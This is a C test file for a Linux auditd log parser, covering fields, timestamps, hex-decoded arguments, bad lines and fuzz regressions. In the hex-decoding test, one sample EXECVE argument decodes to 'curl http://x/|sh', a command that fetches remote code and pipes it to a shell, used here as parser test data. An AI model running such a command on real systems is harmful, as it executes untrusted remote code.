/* test_auditd.c - the Linux audit log reader: fields, stamps, bad lines. */
#include "tn_test.h"

#include "base/alloc.h"
#include "base/buf.h"
#include "read/auditd.h"
#include "read/sniff.h"

#include "replay.h"

/* "@LINE rec=SERIAL pc=NODE | name=value;..." per event. */
static char *read_all(const char *in, size_t n, tn_diag *d)
{
    tn_auditd *r;
    tn_buf b;
    tn_buf_init(&b);
    tn_buf_puts(&b, "");
    CHECK_INT(tn_auditd_open_mem(in, n, "audit.log", d, &r), 0);
    tn_event ev;
    int rc;
    while ((rc = tn_auditd_next(r, &ev)) == TN_JSONL_EVENT) {
        tn_buf_printf(&b, "@%llu rec=%llu pc=%s |", (unsigned long long)ev.offset,
                      (unsigned long long)ev.record_id, ev.computer);
        for (uint32_t i = 0; i < ev.nfields; i++) {
            CHECK_INT(strlen(ev.fields[i].value), ev.fields[i].value_len);
            tn_buf_printf(&b, " %s=%s;", ev.fields[i].name, ev.fields[i].value);
        }
        tn_buf_putc(&b, '\n');
    }
    CHECK_INT(rc, TN_JSONL_END);
    tn_auditd_close(r);
    return b.data;
}

#define EXPECT(in, want, nproblems)                                          \
    do {                                                                     \
        tn_diag d_ = {.quiet = 1};                                           \
        char *got_ = read_all(in, strlen(in), &d_);                          \
        CHECK_STR(got_, want);                                               \
        CHECK_INT(tn_diag_total(&d_), nproblems);                            \
        tn_free(got_);                                                       \
    } while (0)

TN_TEST(test_auditd_syscall_execve)
{
    EXPECT("type=SYSCALL msg=audit(1604996384.965:93777): arch=c000003e syscall=59 success=yes "
           "comm=\"dd\" exe=\"/bin/dd\" key=(null)\n"
           "type=EXECVE msg=audit(1604996384.965:93777): argc=2 a0=\"dd\" a1=\"if=/dev/zero\"\n"
           "type=PROCTITLE msg=audit(1604996384.965:93777): proctitle=6464\n",
           "@1 rec=93777 pc= | type=SYSCALL; arch=c000003e; syscall=59; success=yes; comm=dd;"
           " exe=/bin/dd; key=(null);\n"
           "@2 rec=93777 pc= | type=EXECVE; argc=2; a0=dd; a1=if=/dev/zero;\n"
           "@3 rec=93777 pc= | type=PROCTITLE; proctitle=dd;\n",
           0);
    tn_diag d = {.quiet = 1};
    tn_auditd *r;
    const char *in = "type=CWD msg=audit(1604996384.965:93777): cwd=\"/home/wardog\"";
    CHECK_INT(tn_auditd_open_mem(in, strlen(in), "a", &d, &r), 0);
    tn_event ev;
    CHECK_INT(tn_auditd_next(r, &ev), TN_JSONL_EVENT);
    char t[32];
    tn_filetime_format(ev.time, t);
    CHECK_STR(t, "2020-11-10T08:19:44.965000Z");
    CHECK_STR(ev.channel, "auditd");   /* where data/logsources.yml sends linux auditd rules */
    CHECK_STR(ev.file, "a");
    CHECK_INT(tn_auditd_next(r, &ev), TN_JSONL_END);
    tn_auditd_close(r);
}

/* What the kernel writes in hex (a space, quote, control or non-ASCII
 * byte inside) reads as ausearch -i shows it; numbers in hex do not. */
TN_TEST(test_auditd_hex_decoded)
{
    EXPECT("type=EXECVE msg=audit(1.0:5): argc=3 a0=\"sh\" a1=\"-c\" "
           "a2=6375726C20687474703A2F2F782F7C7368\n"
           "type=SYSCALL msg=audit(1.0:5): arch=c000003e syscall=59 a0=55d0 a1=7ffd12 "
           "comm=6D7920636F6D6D exe=\"/bin/sh\" key=6B310177617463685F6574630162\n"
           "type=PROCTITLE msg=audit(1.0:5): proctitle=7368002D63006964\n"
           "type=PATH msg=audit(1.0:5): item=0 name=(null) inode=ABCD nametype=NORMAL\n"
           "type=CWD msg=audit(1.0:5): cwd=2F746D702F6120622F\n"
           "type=USER_CMD msg=audit(1.0:6): pid=9 msg='cwd=\"/\" cmd=696420" "2D75 res=success'\n"
           "type=EXECVE msg=audit(1.0:7): argc=2 a0=\"x\" a1_len=6 a1[0]=414243 a1[1]=\"DEF\" "
           "a2=ABC a3=zz a4=\"6162\"\n",
           "@1 rec=5 pc= | type=EXECVE; argc=3; a0=sh; a1=-c; a2=curl http://x/|sh;\n"
           "@2 rec=5 pc= | type=SYSCALL; arch=c000003e; syscall=59; a0=55d0; a1=7ffd12;"
           " comm=my comm; exe=/bin/sh; key=k1; key=watch_etc; key=b;\n"
           "@3 rec=5 pc= | type=PROCTITLE; proctitle=sh -c id;\n"
           "@4 rec=5 pc= | type=PATH; item=0; name=(null); inode=ABCD; nametype=NORMAL;\n"
           "@5 rec=5 pc= | type=CWD; cwd=/tmp/a b/;\n"
           "@6 rec=6 pc= | type=USER_CMD; pid=9; msg=cwd=\"/\" cmd=6964202D75 res=success;"
           " cwd=/; cmd=id -u; res=success;\n"
           "@7 rec=7 pc= | type=EXECVE; argc=2; a0=x; a1_len=6; a1=ABCDEF; a2=ABC; a3=zz;"
           " a4=6162;\n",
           0);
}

TN_TEST(test_auditd_node_user_enriched)
{
    EXPECT("node=web1 type=USER_LOGIN msg=audit(1.5:7): pid=1 msg='op=login acct=\"root\" "
           "res=success'\x1d" "AUID=\"unset\" UID=\"root\"\r\n"
           "\n"
           "type=X msg=audit(2:8): lone\n",
           "@1 rec=7 pc=web1 | type=USER_LOGIN; pid=1; msg=op=login acct=\"root\" res=success;"
           " op=login; acct=root; res=success; AUID=unset; UID=root;\n"
           "@3 rec=8 pc= | type=X; =lone;\n",
           0);
}

TN_TEST(test_auditd_bad_lines)
{
    EXPECT("{\"json\":1}\ntype=A msg=audit(x:1): a=1\ntype=A msg=nope a=1\ntype=A\n"
           "type=A msg=audit(1.2:3) a=1\ntype=B msg=audit(1.2:4): b=2",
           "@6 rec=4 pc= | type=B; b=2;\n", 5);
    EXPECT("", "", 0);
    /* an overlong line is skipped, the next one read */
    size_t n = TN_AUDITD_MAX_LINE + 100000;
    char *big = tn_malloc(n + 64);
    memcpy(big, "type=A msg=audit(1:1): a=", 25);
    memset(big + 25, 'x', n - 25);
    memcpy(big + n, "\ntype=B msg=audit(1:2): b=2\n", 29);
    tn_diag d = {.quiet = 1};
    char *got = read_all(big, n + 28, &d);
    CHECK_STR(got, "@2 rec=2 pc= | type=B; b=2;\n");
    CHECK_INT(d.count[TN_P_RECORD], 1);
    tn_free(got);
    tn_free(big);
}

TN_TEST(test_auditd_alloc_failures)
{
    const char *in = "type=SYSCALL msg=audit(1:2): a=1 b=\"2\" msg='c=3 d=4'\n"
                     "type=EXECVE msg=audit(1:2): a0=\"x\" a1[0]=4142 a1[1]=43 key=610162\n";
    int finished = 0;
    for (long n = 0; n < 100 && !finished; n++) {
        tn_diag d = {.quiet = 1};
        tn_auditd *r = NULL;
        tn_alloc_fail_after(n);
        int rc = tn_auditd_open_mem(in, strlen(in), "t", &d, &r);
        if (rc == 0) {
            tn_event ev;
            while ((rc = tn_auditd_next(r, &ev)) == TN_JSONL_EVENT)
                ;
            finished = rc == TN_JSONL_END;
            CHECK(rc == TN_JSONL_END || rc == TN_JSONL_ENOMEM);
            tn_auditd_close(r);
        } else {
            CHECK_INT(rc, TN_JSONL_ENOMEM);
        }
        tn_alloc_fail_after(-1);
    }
    CHECK(finished);
}

TN_TEST(test_auditd_sniff)
{
#define SNIFF(s) tn_input_sniff((const unsigned char *)(s), sizeof(s) - 1)
    CHECK_INT(SNIFF("type=SYSCALL msg=audit(1604996384.965:93777): arch="), TN_INPUT_AUDITD);
    CHECK_INT(SNIFF("node=h1 type=USER_LOGIN msg=audit(1.2:3): pid=1"), TN_INPUT_AUDITD);
    CHECK_INT(SNIFF("type=SYSCALL msg=x"), TN_INPUT_UNKNOWN);
    CHECK_INT(SNIFF("type= msg=audit("), TN_INPUT_UNKNOWN);
    CHECK_INT(SNIFF("node=h1"), TN_INPUT_UNKNOWN);
#undef SNIFF
}

static void replay_one(const char *name, const unsigned char *data, size_t n, void *ctx)
{
    (void)name, (void)ctx;
    tn_diag d = {.quiet = 1};
    tn_free(read_all((const char *)data, n, &d));
}

/* Every input in tests/fuzz-regress/auditd, as fuzz/fuzz_auditd.c feeds it. */
TN_TEST(test_auditd_fuzz_regressions)
{
    CHECK(replay_each("tests/fuzz-regress/auditd", replay_one, NULL) > 0);
}
